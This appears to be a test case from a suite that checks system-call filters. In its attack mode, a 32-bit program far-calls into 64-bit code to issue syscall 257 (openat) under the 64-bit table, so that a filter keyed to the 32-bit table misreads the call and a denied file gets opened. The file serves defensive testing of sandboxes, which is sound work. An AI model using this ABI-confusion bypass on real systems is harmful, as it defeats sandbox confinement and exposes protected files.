// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a call is known by the table that the kernel takes it from, whatever
 * program makes it (catalogue C3).
 *
 *	a 32-bit program	far call into a segment of 64-bit code
 *	eax = 257, syscall	openat; 257 in the program's own table is
 *				remap_file_pages
 *
 * The twin opens plainly, because refusing foreign calling conventions
 * altogether is a sound defence. Winning prints DATA and the content of the
 * denied file.
 */
#include "attack.h"

#ifndef __i386__
#error "long-mode means something in 32-bit programs only"
#endif

#define OPENAT_64 257
#define SEGMENT_64 0x33

/*
 * In 64-bit code: mov %esi, %esi (which clears the upper half); xor %r10d, %r10d;
 * syscall; lret to a segment and an address of 32 bits each.
 */
extern const char in_long_mode[];
__asm__(".text\nin_long_mode: .byte 0x89, 0xf6, 0x45, 0x31, 0xd2, 0x0f, 0x05, 0xcb\n");

static int open_in_long_mode(const char *name)
{
	const struct {
		const char *place;
		uint16_t segment;
	} far = { in_long_mode, SEGMENT_64 };
	int result = OPENAT_64;

	__asm__ volatile("lcall *%[far]"
			 : "+a"(result)
			 : [far] "m"(far), "D"(AT_FDCWD), "S"(name), "d"(O_RDONLY | O_CLOEXEC)
			 : "memory", "ecx");
	return result;
}

static void attack(struct run *run)
{
	int fd = open_in_long_mode(run->denied);

	run->attempts = 1;
	errno = fd < 0 ? -fd : 0;
	run_opened(run, fd < 0 ? -1 : fd);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_read(&run, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		attack(&run);
		break;
	}
	run_end(&run);
}
